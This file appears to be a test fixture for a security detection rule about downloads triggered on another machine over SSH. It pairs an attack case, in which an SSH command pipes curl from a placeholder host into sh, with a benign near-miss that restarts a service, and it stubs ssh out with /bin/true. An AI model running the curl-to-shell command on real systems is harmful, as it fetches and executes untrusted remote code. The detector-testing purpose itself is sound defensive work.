# rule: Download sent to another machine over SSH
# where: host
attack() {
    ln -s /bin/true ssh
    ./ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i k root@192.0.2.9 'curl -s http://192.0.2.7/i | sh'
}
near_miss() {
    ln -s /bin/true ssh
    ./ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i k root@192.0.2.9 'systemctl restart shop'
}
